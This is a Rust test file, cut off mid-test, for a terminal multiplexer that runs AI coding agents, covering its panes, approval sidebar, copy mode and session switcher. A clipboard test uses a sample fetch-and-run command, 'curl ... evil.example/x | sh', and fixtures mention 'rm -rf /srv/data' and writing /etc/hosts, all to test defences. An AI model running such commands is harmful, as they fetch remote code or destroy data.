//! The app without a terminal: events in, state and effects out, and snapshots of what it
//! draws over ratatui's TestBackend.

use super::*;
use crate::config::Keymap;
use crate::input::Mods;
use crate::layout::Layout;
use crate::protocol::{CursorView, PaneFrame, PaneInfo, PaneModes, TabView, WireRow, WireRun};
use ratatui::buffer::Buffer;

const COLS: u16 = 80;
const ROWS: u16 = 16;

fn info(id: PaneId, command: &str, state: PaneState) -> PaneInfo {
    PaneInfo {
        id,
        command: command.into(),
        state,
        pid: Some(100 + id),
        size: Size { cols: 38, rows: 13 },
        ..PaneInfo::default()
    }
}

/// Two tabs: the first split in two (a shell, and a build that failed), the second with an
/// agent that wants attention.
fn session() -> SessionView {
    let mut layout = Layout::Pane(1);
    layout.split(1, 2, Direction::Right, Rect::new(0, 0, COLS, ROWS - 1)).expect("split");
    let mut agent = info(3, "claude", PaneState::Running);
    agent.name = Some("reviewer".into());
    agent.attention = true;
    agent.agent = Some(crate::protocol::AgentView {
        kind: crate::agents::AgentKind::Claude,
        state: crate::agents::AgentState::NeedsApproval,
        conversation: None,
        answers: 0,
    });
    agent.branch = Some("teamster/reviewer-1".into());
    agent.spend = 1.234;
    SessionView {
        id: 0,
        name: "work".into(),
        tabs: vec![
            TabView {
                id: 1,
                name: String::new(),
                layout,
                focused: 1,
                zoomed: None,
                synchronized: false,
                arrangement: None,
            },
            TabView {
                id: 2,
                name: "agents".into(),
                layout: Layout::Pane(3),
                focused: 3,
                zoomed: None,
                synchronized: false,
                arrangement: None,
            },
        ],
        active_tab: 0,
        panes: vec![
            info(1, "bash", PaneState::Running),
            info(2, "make test", PaneState::Exited { code: Some(2), signal: None }),
            agent,
        ],
        clients: 1,
        created: 0,
        spend: 1.234,
        budget: Some((5.0, "pause every $5".into())),
        cap_hit: None,
        watchers: Vec::new(),
        shared: false,
    }
}

fn frame(pane: PaneId, lines: &[&str]) -> PaneFrame {
    PaneFrame {
        pane,
        size: Size { cols: 38, rows: 13 },
        full: true,
        rows: lines
            .iter()
            .enumerate()
            .map(|(y, l)| {
                (
                    y as u16,
                    WireRow { runs: vec![WireRun { text: l.to_string(), ..WireRun::default() }], wrapped: false },
                )
            })
            .collect(),
        cursor: CursorView { x: 2, y: 1, visible: true, ..CursorView::default() },
        modes: PaneModes::default(),
        first_line: 0,
        screen_top: 40,
        epoch: 0,
    }
}

fn app_with(keymap: &str) -> App {
    let keymap = Keymap::load(keymap, None).expect("keymap");
    let theme = crate::config::Theme::load("dark", None).expect("theme");
    let mut app = App::new(keymap, theme, Size { cols: COLS, rows: ROWS }, true);
    app.update(Event::Server(ServerMsg::Session { session: Box::new(session()) }));
    app.update(Event::Server(ServerMsg::Frame {
        panes: vec![frame(1, &["$ ls", "$ ", "Cargo.toml  src  tests"]), frame(2, &["error: 2 tests failed"])],
    }));
    app.effects.clear();
    app
}

/// The app with the one-Alt-stroke keymap: these tests are about what actions do; the
/// default keymap's own tests say which keys reach them.
fn app() -> App {
    app_with("alt")
}

fn draw(app: &App) -> String {
    draw_at(app, COLS, ROWS)
}

fn draw_at(app: &App, cols: u16, rows: u16) -> String {
    let mut buf = Buffer::empty(ratatui::layout::Rect::new(0, 0, cols, rows));
    super::super::view::render(app, &mut buf);
    super::super::view::buffer_text(&buf)
}

fn key(s: &str) -> Event {
    Event::Input(InputEvent::Key(s.parse().expect("key")))
}

fn sent(app: &mut App) -> Vec<ClientMsg> {
    app.effects
        .drain(..)
        .filter_map(|e| match e {
            Effect::Send(m) => Some(m),
            _ => None,
        })
        .collect()
}

fn command_of(msg: &ClientMsg) -> Option<&Command> {
    match msg {
        ClientMsg::Command { command, .. } => Some(command),
        _ => None,
    }
}

#[test]
fn panes_titles_and_status_bar() {
    insta::assert_snapshot!(draw(&app()));
}

#[test]
fn the_focused_pane_stands_out_and_exit_codes_show() {
    let screen = draw(&app());
    let first = screen.lines().next().expect("top row");
    assert!(first.contains("┏ 1 bash"), "focused pane drawn in heavy lines: {first}");
    assert!(first.contains("┌ 2 make test [exited 2]"), "{first}");
    let status = screen.lines().last().expect("status row");
    assert!(status.contains("1:bash") && status.contains("2:agents ●"), "{status}");
}

#[test]
fn agent_picker() {
    let mut app = app();
    app.update(key("alt-a"));
    assert!(matches!(sent(&mut app).as_slice(), [ClientMsg::ListAgents { .. }]));
    app.update(Event::Server(ServerMsg::Reply {
        id: 1,
        result: Ok(Reply::Agents {
            agents: vec![
                AgentInfo { name: "claude".into(), command: "claude".into(), description: Some("Claude Code".into()) },
                AgentInfo { name: "codex".into(), command: "codex".into(), description: None },
            ],
        }),
    }));
    insta::assert_snapshot!(draw(&app));
    // Typing filters; enter opens the choice beside the focused pane.
    app.update(key("c"));
    app.update(key("o"));
    app.update(key("d"));
    app.update(key("enter"));
    let msgs = sent(&mut app);
    assert_eq!(
        command_of(&msgs[0]),
        Some(&Command::Split { dir: Direction::Right, spawn: Spawn::Agent { name: "codex".into() } })
    );
    assert!(app.overlay.is_none());
}

#[test]
fn agents_marked_in_the_picker_race_on_the_task_typed() {
    let mut app = app();
    app.update(key("alt-a"));
    sent(&mut app);
    let agent = |name: &str| AgentInfo { name: name.into(), command: name.into(), description: None };
    let agents = vec![agent("claude"), agent("codex"), agent("gemini")];
    app.update(Event::Server(ServerMsg::Reply { id: 1, result: Ok(Reply::Agents { agents }) }));
    // Space marks the selected agent (a shell cannot race); marked ones show a tick.
    app.update(key("space"));
    app.update(key("down"));
    app.update(key("space"));
    app.update(key("down"));
    app.update(key("down"));
    app.update(key("space"));
    let drawn = draw(&app);
    assert!(drawn.contains("✓claude") && drawn.contains("✓gemini") && !drawn.contains("✓codex"), "{drawn}");
    assert!(drawn.contains("enter: race these 2"), "{drawn}");
    app.update(key("enter"));
    assert!(sent(&mut app).is_empty(), "nothing starts before the task is typed");
    let status = draw(&app).lines().last().expect("status").to_string();
    assert!(status.contains("task for claude, gemini:"), "{status}");
    for c in "fix it".chars() {
        app.update(key(if c == ' ' { "space".to_string() } else { c.to_string() }.as_str()));
    }
    app.update(key("enter"));
    let msgs = sent(&mut app);
    let [ClientMsg::Race { race, .. }] = msgs.as_slice() else { panic!("{msgs:?}") };
    assert_eq!(
        (race.task.as_str(), race.agents.as_slice()),
        ("fix it", ["claude".to_string(), "gemini".into()].as_slice())
    );
    // What came of it is said.
    let racer = |agent: &str, why: Option<&str>| crate::protocol::Racer {
        agent: agent.into(),
        pane: 7,
        place: "s:2.1".into(),
        branch: "b".into(),
        sent: why.is_none(),
        why: why.map(String::from),
    };
    let racers = vec![racer("claude", None), racer("gemini", Some("it exited"))];
    app.update(Event::Server(ServerMsg::Reply { id: 2, result: Ok(Reply::Raced { racers, seconds: 1.0 }) }));
    let status = draw(&app).lines().last().expect("status").to_string();
    assert!(status.contains("the task did not reach: gemini (s:2.1): it exited"), "{status}");
}

#[test]
fn help_lists_the_bindings() {
    let mut app = app();
    app.update(key("alt-?"));
    insta::assert_snapshot!(draw(&app));
}

#[test]
fn close_asks_and_only_enter_closes() {
    let mut app = app_with("default");
    // The default: the prefix, then x.
    app.update(key("x"));
    assert!(app.overlay.is_none(), "x alone is typed, not an action");
    app.update(key("ctrl-\\"));
    app.update(key("x"));
    let status = draw(&app).lines().last().expect("status").to_string();
    assert!(status.contains("close pane 1 (bash, still running)? enter closes, other keys keep it"), "{status}");
    let typed = sent(&mut app);
    assert_eq!(typed.len(), 1, "only the first x was typed: {typed:?}");
    // A typed word's `y` (or any key but Enter) keeps the pane, and is not typed either.
    app.update(key("y"));
    assert!(app.overlay.is_none() && sent(&mut app).is_empty(), "a y closed the pane or was typed");
    app.update(key("ctrl-\\"));
    app.update(key("x"));
    app.update(key("enter"));
    assert_eq!(command_of(&sent(&mut app)[0]), Some(&Command::ClosePane { pane: 1, worktree: None }));
}

#[test]
fn the_default_status_bar_says_the_prefix_and_what_follows() {
    let app = app_with("default");
    let status = draw_at(&app, 160, ROWS).lines().last().expect("status").to_string();
    assert!(status.contains("ctrl-\\ then  \\ split  - split↓  h focus  z zoom  a agents  w switch"), "{status}");
}

#[test]
fn keys_reach_the_pane_unless_bound() {
    let mut app = app();
    app.update(key("x"));
    app.update(key("alt-\\"));
    let msgs = sent(&mut app);
    assert!(
        matches!(&msgs[0], ClientMsg::Input { pane: None, events } if events == &[InputEvent::Key("x".parse().expect("key"))])
    );
    assert_eq!(command_of(&msgs[1]), Some(&Command::Split { dir: Direction::Right, spawn: Spawn::Shell }));
}

#[test]
fn the_prefix_lasts_one_key() {
    let mut app = app_with("tmux");
    app.update(key("ctrl-b"));
    assert_eq!(app.mode, Mode::Prefix);
    assert!(draw(&app).lines().last().expect("status").contains("PREFIX"));
    app.update(key("%"));
    assert_eq!(app.mode, Mode::Normal);
    assert_eq!(command_of(&sent(&mut app)[0]), Some(&Command::Split { dir: Direction::Right, spawn: Spawn::Shell }));
    // An unbound key after the prefix is swallowed, not typed.
    app.update(key("ctrl-b"));
    app.update(key("j"));
    assert_eq!(app.mode, Mode::Normal);
    assert!(sent(&mut app).is_empty());
}

#[test]
fn clicking_a_pane_focuses_it() {
    let mut app = app();
    app.update(Event::Input(InputEvent::Mouse(MouseEvent {
        kind: MouseKind::Press,
        button: MouseButton::Left,
        x: 60,
        y: 5,
        mods: Mods(0),
    })));
    assert_eq!(command_of(&sent(&mut app)[0]), Some(&Command::Focus { pane: 2 }));
    // A click on a tab in the status bar selects it.
    let x = super::super::view::tab_spans(&app)[1].1 + 1;
    app.update(Event::Input(InputEvent::Mouse(MouseEvent {
        kind: MouseKind::Press,
        button: MouseButton::Left,
        x,
        y: ROWS - 1,
        mods: Mods(0),
    })));
    assert_eq!(command_of(&sent(&mut app)[0]), Some(&Command::SelectTab { index: 1 }));
}

#[test]
fn copy_mode_view() {
    let mut app = app();
    app.update(key("alt-c"));
    assert_eq!(app.mode, Mode::Copy);
    // It asks the runner for the history above the screen.
    assert!(sent(&mut app).iter().any(|m| matches!(m, ClientMsg::GetLines { pane: 1, .. })));
    app.update(key("k"));
    app.update(key("v"));
    app.update(key("l"));
    app.update(key("l"));
    insta::assert_snapshot!(draw(&app));
    app.update(key("y"));
    let msgs = sent(&mut app);
    assert!(
        matches!(&msgs[0], ClientMsg::GetText { pane: 1, start: (40, 2), end: (40, 4), block: false, .. }),
        "{msgs:?}"
    );
    assert_eq!(app.mode, Mode::Normal);
    // The copied text goes to the terminal's clipboard.
    let ClientMsg::GetText { id, .. } = msgs[0] else { unreachable!() };
    app.update(Event::Server(ServerMsg::Reply { id, result: Ok(Reply::Text { text: "ls".into() }) }));
    assert!(app.effects.contains(&Effect::Terminal(b"\x1b]52;c;bHM=\x07".to_vec())));
}

#[test]
fn a_narrow_terminal_drops_hints_not_tabs() {
    let mut app = app();
    app.update(Event::Resize(Size { cols: 40, rows: ROWS }));
    let status = draw_at(&app, 40, ROWS).lines().last().expect("status").to_string();
    assert!(status.contains("1:bash") && status.contains("2:agents"), "{status}");
}

#[test]
fn errors_from_the_runner_show_in_the_status_bar() {
    let mut app = app();
    app.update(key("alt-\\"));
    app.update(Event::Server(ServerMsg::Reply { id: 1, result: Err("the pane is too small to split".into()) }));
    assert!(draw(&app).lines().last().expect("status").contains("the pane is too small to split"));
}

#[test]
fn agent_titles_show_state_and_worktree_branch() {
    let mut app = app();
    if let Some(s) = app.session.as_mut() {
        s.active_tab = 1;
    }
    let screen = draw(&app);
    let first = screen.lines().next().expect("top row");
    // The agent by its name, its state next to it; then what else there is room for.
    assert!(first.contains("reviewer [needs approval] ● $1.23 ⎇ teamster/reviewer-1"), "{first}");
    insta::assert_snapshot!(screen);
    // Narrow, the state and the name stay; the branch and then the spend go.
    for cols in [40, 30] {
        let narrow = draw_at(&app, cols, 20);
        let first = narrow.lines().next().expect("top row").to_string();
        assert!(first.contains("reviewer [needs approval]"), "{cols}: {first}");
        assert!(!first.contains("teamster/rev"), "{cols}: the branch goes first: {first}");
    }
}

#[test]
fn a_title_says_when_a_restart_would_apply_a_changed_config() {
    let mut app = app();
    if let Some(s) = app.session.as_mut() {
        s.active_tab = 1;
        for p in s.panes.iter_mut() {
            p.restart_applies = true;
        }
    }
    let first = draw_at(&app, 140, 20).lines().next().expect("top row").to_string();
    assert!(first.contains("reviewer [needs approval]") && first.contains("⟳ restart applies new config"), "{first}");
    // Narrow, it gives way before the name and the state.
    let narrow = draw_at(&app, 40, 20).lines().next().expect("top row").to_string();
    assert!(narrow.contains("reviewer [needs approval]") && !narrow.contains("restart applies"), "{narrow}");
}

#[test]
fn an_agent_waiting_elsewhere_is_announced_as_configured() {
    let waiting = || {
        Event::Server(ServerMsg::Alert {
            pane: 3,
            kind: AlertKind::Waiting { agent: "reviewer".into(), state: crate::agents::AgentState::WaitingForInput },
        })
    };
    let cases: [(Notify, &[u8]); 4] = [
        (Notify::Mark, b""),
        (Notify::Bell, b"\x07"),
        (Notify::Osc9, b"\x1b]9;teamster: reviewer in tab 2 pane 1 is waiting for input\x07"),
        (Notify::Osc777, b"\x1b]777;notify;teamster;reviewer in tab 2 pane 1 is waiting for input\x07"),
    ];
    for (notify, bytes) in cases {
        let mut app = app();
        app.notify = notify;
        app.effects.clear();
        app.update(waiting());
        let out: Vec<u8> = app
            .effects
            .iter()
            .filter_map(|e| match e {
                Effect::Terminal(b) => Some(b.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        assert_eq!(out, bytes, "{notify:?}");
        assert!(draw(&app).contains("reviewer in tab 2 pane 1 is waiting for input"), "the status bar says it too");
    }
}

fn waiting(id: u64, pane: PaneId, what: &str, kind: &str) -> crate::protocol::PendingView {
    crate::protocol::PendingView {
        id,
        session: "work".into(),
        pane,
        place: None,
        agent: "reviewer".into(),
        kind: crate::approval::ActionKind::from(kind.to_string()),
        tool: "Bash".into(),
        what: what.into(),
        rule: Some("push after installing packages".into()),
        reason: "packages were installed in this session: look before this is pushed".into(),
        source: Default::default(),
        warning: None,
        diff: None,
        since: 1_000_000 - 42,
        deadline: 1_000_000 + 600,
    }
}

fn resolves(app: &mut App) -> Vec<(u64, crate::approval::Decision)> {
    sent(app)
        .into_iter()
        .filter_map(|m| match m {
            ClientMsg::Resolve { action, decision, via, .. } => {
                assert_eq!(via, crate::approval::Surface::Sidebar);
                Some((action, decision))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn the_sidebar_comes_with_something_to_decide_and_its_keys_decide_it() {
    use crate::approval::{AllowScope, Decision};
    let mut app = app();
    app.clock = Some(1_000_000);
    app.update(Event::Resize(Size { cols: 120, rows: 20 }));
    app.effects.clear();
    let pending = vec![
        waiting(7, 3, "git push origin main", "tool_call"),
        waiting(8, 1, "a request to anthropic ($5.02 spent)", "llm_request"),
    ];
    app.update(Event::Server(ServerMsg::Pending { pending }));
    // It lies over the panes: no program is told the terminal changed size.
    assert_eq!(sent(&mut app), vec![]);
    insta::assert_snapshot!(draw_at(&app, 120, 20));

    app.update(key("alt-s"));
    assert_eq!(app.mode, Mode::Approvals);
    // Its foot names the keys that decide, as the README does.
    assert!(draw_at(&app, 120, 20).contains("y approve n deny m tell A always"), "{}", draw_at(&app, 120, 20));
    app.update(key("y"));
    assert_eq!(resolves(&mut app), vec![(7, Decision::ApproveOnce)]);
    app.update(key("j"));
    app.update(key("n"));
    assert_eq!(resolves(&mut app), vec![(8, Decision::deny_by_person(None))]);
    // A message for the agent.
    app.update(key("k"));
    app.update(key("m"));
    for c in "use a branch".chars() {
        app.update(key(&c.to_string()));
    }
    app.update(key("enter"));
    assert_eq!(resolves(&mut app), vec![(7, Decision::deny_by_person(Some("use a branch".into())))]);
    // Always: where.
    app.update(key("A"));
    assert!(
        draw_at(&app, 120, 20)
            .contains("allow `git push origin main` from now on: s in this session, w in this workspace")
    );
    app.update(key("w"));
    assert_eq!(resolves(&mut app), vec![(7, Decision::ApproveAlways { scope: AllowScope::Workspace })]);
    // Spend is approved a step at a time, not for ever.
    app.update(key("j"));
    app.update(key("A"));
    assert!(app.overlay.is_none() && resolves(&mut app).is_empty());
    assert!(draw_at(&app, 120, 20).contains("one step at a time"), "{}", draw_at(&app, 120, 20));
    // A push is judged each time it happens: no "always" for it either, and it says so.
    let pending = vec![waiting(9, 3, "git push to github.com/o/r.git: main (fast-forward)", "push")];
    app.update(Event::Server(ServerMsg::Pending { pending }));
    app.update(key("A"));
    assert!(app.overlay.is_none() && resolves(&mut app).is_empty());
    assert!(draw_at(&app, 120, 20).contains("a push is judged each time"), "{}", draw_at(&app, 120, 20));

    // All decided: the sidebar stays until the user leaves it, so the esc that leaves it
    // never reaches the pane (where it would interrupt an agent).
    app.update(Event::Server(ServerMsg::Pending { pending: vec![] }));
    assert_eq!(app.mode, Mode::Approvals);
    assert!(sent(&mut app).is_empty());
    // Its history tells a refusal repeated three times once, with its count.
    let refused = crate::protocol::RecentView {
        ts: 1_000_000,
        session: "work".into(),
        agent: "reviewer".into(),
        kind: crate::approval::ActionKind::Sandbox,
        what: "write to /etc/hosts".into(),
        verdict: crate::approval::Verdict::Deny,
        by: crate::approval::DecidedBy::Sandbox,
        times: 3,
    };
    app.update(Event::Server(ServerMsg::History { recent: vec![refused] }));
    let screen = draw_at(&app, 120, 20);
    assert!(screen.contains("sandbox refused ×3") && screen.matches("write to /etc/hosts").count() == 1, "{screen}");
    assert!(draw_at(&app, 120, 20).contains("q back to the panes"), "{}", draw_at(&app, 120, 20));
    // A key bound to nothing here is not typed into a pane.
    app.update(key("z"));
    assert!(sent(&mut app).is_empty() && app.mode == Mode::Approvals);
    app.update(key("esc"));
    assert_eq!(app.mode, Mode::Normal);
    // Left: nothing was typed into a pane, and none was resized.
    assert_eq!(sent(&mut app), vec![]);
    assert!(!draw_at(&app, 120, 20).contains("waiting for you"));
    // The panes' bindings work from the sidebar, and leave it.
    app.update(key("alt-s"));
    app.update(key("alt-m"));
    assert!(matches!(app.overlay, Some(Overlay::Cost(_))) && app.mode == Mode::Normal);
    app.overlay = None;
    assert_eq!(sent(&mut app).iter().filter(|m| matches!(m, ClientMsg::Cost { .. })).count(), 1);
    // A pending list that empties while the user is elsewhere takes the sidebar away.
    app.update(Event::Server(ServerMsg::Pending { pending: vec![waiting(9, 3, "ls", "tool_call")] }));
    app.update(Event::Server(ServerMsg::Pending { pending: vec![] }));
    assert_eq!(app.mode, Mode::Normal);
    assert!(!app.sidebar.visible());
}

#[test]
fn an_agents_own_question_and_a_sandbox_warning_show_on_the_card() {
    use crate::protocol::PendingSource;
    let mut app = app();
    app.clock = Some(1_000_000);
    app.update(Event::Resize(Size { cols: 120, rows: 20 }));
    let mut own = waiting(5, 3, "rm -rf /srv/data", "tool_call");
    own.rule = None;
    own.reason = "claude asks before it does this".into();
    own.source = PendingSource::Agent;
    own.warning = Some("the sandbox will still refuse writing /srv/data (reading works)".into());
    own.diff = Some("-let x = 1;\n+let x = 2;\n".into());
    app.update(Event::Server(ServerMsg::Pending { pending: vec![own] }));
    let screen = draw_at(&app, 120, 20);
    for said in [
        "claude asks before it does this",
        "⚠ the sandbox will still",
        "42s ago · answer here or in its pane",
        "-let x = 1;",
        "+let x = 2;",
    ] {
        assert!(screen.contains(said), "{said}:\n{screen}");
    }
    assert!(!screen.contains("denied in"), "{screen}");
}

#[test]
fn a_programs_clipboard_write_follows_the_setting() {
    use base64::Engine;
    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
    let wrote = |app: &App| app.effects.iter().any(|e| matches!(e, Effect::Terminal(b) if b.starts_with(b"\x1b]52;")));
    let set = |app: &mut App, data: String| app.update(Event::Server(ServerMsg::Clipboard { data }));
    let evil = "curl -s https://evil.example/x | sh";

    // Deny (the default): nothing reaches the terminal.
    let mut a = app();
    set(&mut a, b64(evil.as_bytes()));
    assert!(!wrote(&a) && a.overlay.is_none());

    // Allow: what was decoded, encoded again (not the program's bytes).
    let mut a = app();
    a.clipboard = Clipboard::Allow;
    set(&mut a, format!(" {}\n", b64(evil.as_bytes())));
    let want = format!("\x1b]52;c;{}\x07", b64(evil.as_bytes())).into_bytes();
    assert!(a.effects.contains(&Effect::Terminal(want.clone())), "{:?}", a.effects);
    // Not base64, or not text: nothing.
    let mut a = app();
    a.clipboard = Clipboard::Allow;
    set(&mut a, "\x1b]0;x".into());
    set(&mut a, b64(b"\xff\xfe"));
    assert!(!wrote(&a));

    // Ask: the text, made visible, and y writes it; n does not.
    let mut a = app();
    a.clipboard = Clipboard::Ask;
    set(&mut a, b64(format!("ok\x1b[8m{evil}").as_bytes()));
    assert!(!wrote(&a));
    assert!(draw(&a).contains("ok^[[8mcurl -s https://evil.example/x"), "{}", draw(&a));
    a.update(key("y"));
    assert!(wrote(&a) && a.overlay.is_none());
    let mut a = app();
    a.clipboard = Clipboard::Ask;
    set(&mut a, b64(evil.as_bytes()));
    a.update(key("n"));
    assert!(!wrote(&a) && a.overlay.is_none());
}

/// A second session, `docs`, with one idle agent pane (7).
fn other_session() -> SessionView {
    let mut writer = info(7, "claude", PaneState::Running);
    writer.name = Some("writer".into());
    writer.agent = Some(crate::protocol::AgentView {
        kind: crate::agents::AgentKind::Claude,
        state: crate::agents::AgentState::Idle,
        conversation: None,
        answers: 1,
    });
    SessionView {
        id: 1,
        name: "docs".into(),
        tabs: vec![TabView {
            id: 9,
            name: String::new(),
            layout: Layout::Pane(7),
            focused: 7,
            zoomed: None,
            synchronized: false,
            arrangement: None,
        }],
        panes: vec![writer],
        ..session()
    }
}

/// The request of the switcher just opened, answered with both sessions.
fn fill_switcher(app: &mut App) {
    let id = sent(app)
        .iter()
        .find_map(|m| match m {
            ClientMsg::List { id } => Some(*id),
            _ => None,
        })
        .expect("the switcher asks for the sessions");
    let sessions = vec![session(), other_session()];
    app.update(Event::Server(ServerMsg::Reply { id, result: Ok(Reply::Sessions { sessions }) }));
}

#[test]
fn the_switcher_lists_every_pane_waiting_agents_first_and_goes_there() {
    let mut app = app();
    app.update(key("alt-t"));
    app.update(key("w"));
    assert!(matches!(app.overlay, Some(Overlay::Switcher(_))));
    assert_eq!(app.mode, Mode::Normal);
    fill_switcher(&mut app);
    insta::assert_snapshot!(draw(&app));
    // The first row is the agent that waits for a decision: Enter goes to it, here.
    app.update(key("enter"));
    assert!(app.overlay.is_none());
    assert_eq!(sent(&mut app).iter().filter_map(command_of).collect::<Vec<_>>(), vec![&Command::Focus { pane: 3 }]);
    // Filtered to a pane of the other session: attached there, then focused.
    app.update(key("alt-t"));
    app.update(key("w"));
    fill_switcher(&mut app);
    for c in "writer".chars() {
        app.update(key(&c.to_string()));
    }
    let screen = draw(&app);
    assert!(screen.contains("docs:1.1") && !screen.contains("work:1.1"), "{screen}");
    app.update(key("enter"));
    assert_eq!(app.effects.first(), Some(&Effect::SwitchSession("docs".into())));
    assert_eq!(sent(&mut app).iter().filter_map(command_of).collect::<Vec<_>>(), vec![&Command::Focus { pane: 7 }]);
    // Esc closes it, and nothing is sent.
    app.update(key("alt-t"));
    app.update(key("w"));
    fill_switcher(&mut app);
    app.update(key("esc"));
    assert!(app.overlay.is_none() && sent(&mut app).is_empty());
}

#[test]
fn copy_mode_alt_y_hands_the_selection_to_the_chosen_agent() {
    let mut app = app();
    app.update(key("alt-c"));
    app.update(key("v"));
    app.update(key("$"));
    app.update(key("alt-y"));
    // The selected text is asked for; copy mode is left.
    let get = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::GetText { id, .. } => Some(id),
            _ => None,
        })
        .expect("the selection is fetched");
    assert!(app.copy.is_none());
    let text = "Cargo.toml  src  tests".to_string();
    app.update(Event::Server(ServerMsg::Reply { id: get, result: Ok(Reply::Text { text: text.clone() }) }));
    fill_switcher(&mut app);
    let screen = draw(&app);
    assert!(screen.contains("send the selection (22 characters) to which agent?"), "{screen}");
    for c in "writer".chars() {
        app.update(key(&c.to_string()));
    }
    app.update(key("enter"));
    let send = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::Send { id, target, text, enter, .. } => Some((id, target, text, enter)),
            _ => None,
        })
        .expect("sent as a prompt");
    assert_eq!((send.1.as_str(), send.2.as_str(), send.3), ("7", text.as_str(), true));
    // The agent took it: said so. Refused: why.
    app.update(Event::Server(ServerMsg::Reply { id: send.0, result: Ok(Reply::Text { text: "took".into() }) }));
    assert!(app.message.as_ref().is_some_and(|m| m.text.contains("sent to docs:1.1")), "{:?}", app.message);
}

#[test]
fn hand_off_without_an_agent_says_so_and_with_one_sends_its_last_reply() {
    let mut app = app();
    // Pane 1 is a shell: it has no answers.
    app.update(key("alt-t"));
    app.update(key("y"));
    assert!(app.message.as_ref().is_some_and(|m| m.error && m.text.contains("no agent runs in this pane")));
    assert!(sent(&mut app).is_empty());
    // The agent's tab: its last answer is asked for, then where it goes.
    app.update(Event::Server(ServerMsg::Session { session: Box::new(SessionView { active_tab: 1, ..session() }) }));
    app.update(key("alt-t"));
    app.update(key("y"));
    let asked = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::LastAnswer { id, target } => Some((id, target)),
            _ => None,
        })
        .expect("the last answer is asked for");
    assert_eq!(asked.1, "3");
    let answer = Reply::Answer { session: "work".into(), pane: 3, text: "all 12 tests pass".into() };
    app.update(Event::Server(ServerMsg::Reply { id: asked.0, result: Ok(answer) }));
    fill_switcher(&mut app);
    assert!(draw(&app).contains("send the last reply of pane 1 (17 characters)"), "{}", draw(&app));
}

#[test]
fn broadcast_is_toggled_for_the_tab_and_the_status_bar_says_so() {
    let mut app = app();
    app.update(key("alt-t"));
    app.update(key("s"));
    assert_eq!(sent(&mut app).iter().filter_map(command_of).collect::<Vec<_>>(), vec![&Command::ToggleSync]);
    let mut s = session();
    s.tabs[0].synchronized = true;
    app.update(Event::Server(ServerMsg::Session { session: Box::new(s) }));
    // Once the message that said so has gone, the status bar keeps saying it.
    app.message = None;
    let screen = draw(&app);
    assert!(screen.lines().last().is_some_and(|l| l.contains("⇶ typing into all 2 panes")), "{screen}");
}

#[test]
fn a_click_on_a_border_sends_the_program_nothing() {
    let mut app = app();
    if let Some(c) = app.panes.get_mut(&1) {
        c.modes.mouse = true;
    }
    let mouse = |kind, x, y| {
        Event::Input(InputEvent::Mouse(MouseEvent { kind, button: MouseButton::Left, x, y, mods: Mods(0) }))
    };
    let to_pane = |app: &mut App| sent(app).into_iter().filter(|m| matches!(m, ClientMsg::Input { .. })).count();
    // On pane 1's left border: neither the press nor the release reaches its program.
    app.update(mouse(MouseKind::Press, 0, 5));
    app.update(mouse(MouseKind::Release, 0, 5));
    assert_eq!(to_pane(&mut app), 0);
    // Inside: press, a drag that leaves the pane, and the release all go to it.
    app.update(mouse(MouseKind::Press, 5, 5));
    app.update(mouse(MouseKind::Drag, 50, 5));
    app.update(mouse(MouseKind::Release, 50, 5));
    assert_eq!(to_pane(&mut app), 3);
}

#[test]
fn help_scrolls_to_its_end_and_no_further() {
    let mut app = app();
    app.update(key("alt-?"));
    for _ in 0..500 {
        app.update(key("j"));
    }
    let screen = draw(&app);
    assert!(screen.contains("Hold shift to select text"), "the end shows:\n{screen}");
    let Some(Overlay::Help(crate::tui::views::Help { scroll: end })) = app.overlay else { panic!("help closed") };
    // One key back up moves it at once.
    app.update(key("k"));
    assert!(matches!(&app.overlay, Some(Overlay::Help(h)) if h.scroll + 1 == end), "{:?}", app.overlay);
}

#[test]
fn the_layout_key_cycles_through_the_arrangements() {
    use crate::layout::Arrangement;
    let mut app = app_with("default");
    app.update(key("ctrl-\\"));
    app.update(key("space"));
    let sent_layout = |app: &mut App| sent(app).iter().filter_map(command_of).cloned().collect::<Vec<_>>();
    assert_eq!(sent_layout(&mut app), vec![Command::SelectLayout { arrangement: Arrangement::Tiled }]);
    assert!(app.message.as_ref().is_some_and(|m| m.text == "layout: tiled"));
    let mut s = session();
    s.tabs[0].arrangement = Some(Arrangement::Tiled);
    app.update(Event::Server(ServerMsg::Session { session: Box::new(s) }));
    app.update(key("ctrl-\\"));
    app.update(key("space"));
    assert_eq!(sent_layout(&mut app), vec![Command::SelectLayout { arrangement: Arrangement::MainVertical }]);
}

#[test]
fn enter_in_an_exited_pane_runs_it_again() {
    let mut app = app_with("default");
    let mut s = session();
    s.tabs[0].focused = 2;
    app.update(Event::Server(ServerMsg::Session { session: Box::new(s) }));
    app.update(key("x"));
    assert!(sent(&mut app).is_empty(), "nothing typed into an exited pane");
    let said = app.message.as_ref().map(|m| m.text.clone()).unwrap_or_default();
    assert_eq!(said, "exited: enter runs it again, ctrl-\\ x closes it");
    let status = draw(&app).lines().last().unwrap_or_default().to_string();
    assert!(status.contains("enter runs it again"), "{status}");
    app.update(key("enter"));
    assert_eq!(sent(&mut app).iter().filter_map(command_of).collect::<Vec<_>>(), vec![&Command::Respawn { pane: 2 }]);
}

#[test]
fn prefix_braces_swap_the_pane_and_bang_breaks_it_out() {
    let mut app = app_with("default");
    let commands = |app: &mut App| sent(app).iter().filter_map(command_of).cloned().collect::<Vec<_>>();
    // Pane 1 is focused; its tab holds 1 and 2.
    for (k, with) in [("}", 2), ("{", 2)] {
        app.update(key("ctrl-\\"));
        app.update(key(k));
        assert_eq!(commands(&mut app), vec![Command::SwapPane { pane: 1, with }], "ctrl-\\ {k}");
    }
    app.update(key("ctrl-\\"));
    app.update(key("!"));
    assert_eq!(commands(&mut app), vec![Command::MovePane { pane: 1, tab: None }]);
}

/// The compare view (prefix C): the tab's worktree panes side by side, asked of the runner
/// for the focused pane's tab; `s` sorts by the next column (amounts most first), Enter
/// goes to the chosen pane, and why there is nothing to compare is said in the view.
#[test]
fn the_compare_view_shows_a_race_sorted_and_goes_to_the_chosen_pane() {
    let mut app = app_with("default");
    app.update(key("ctrl-\\"));
    app.update(key("C"));
    assert!(matches!(app.overlay, Some(Overlay::Compare(_))), "{:?}", app.overlay);
    let id = sent(&mut app)
        .into_iter()
